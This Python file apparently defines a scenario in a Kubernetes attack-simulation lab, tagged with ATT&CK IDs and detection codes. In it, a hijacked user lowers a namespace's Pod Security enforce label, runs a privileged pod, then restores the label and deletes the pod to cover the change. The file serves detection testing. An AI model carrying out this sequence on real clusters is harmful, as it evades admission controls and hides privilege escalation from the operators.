"""The Pod Security label of a namespace is lowered, a privileged pod made, and the label put back."""

from lab.client import MERGE
from lab.manifests import pod
from lab.story import Scenario, Stage

_LABEL = "pod-security.kubernetes.io/enforce"


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    path = "/api/v1/namespaces/shop"
    name = stage.word("cleanup", "migrate")
    body = pod(name, "registry.example.com/shop/web:4.2.0")
    body["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    with stage.step("be refused first", thief, "privilege-escalation", ("D01", "N03")):
        thief.post("/api/v1/namespaces/shop/pods", body)
    with stage.step("lower the label", thief, "defense-evasion", ("N03",)):
        stage.must(thief.patch(path, {"metadata": {"labels": {_LABEL: "privileged"}}}, MERGE))
    with stage.step("make the pod", thief, "privilege-escalation", ("D01", "N03", "N11", "C19")):
        stage.must(stage.create(thief, body, "shop"))
    with stage.step("put the label back", thief, "defense-evasion", ()):
        stage.must(thief.patch(path, {"metadata": {"labels": {_LABEL: "baseline"}}}, MERGE))
        thief.delete(f"{path}/pods/{name}")


SCENARIO = Scenario(
    "pod-security-lowered",
    "Pod Security is lowered for a minute",
    "attack",
    "run a privileged pod where none may run",
    ("T1562.001", "T1610"),
    _play,
)
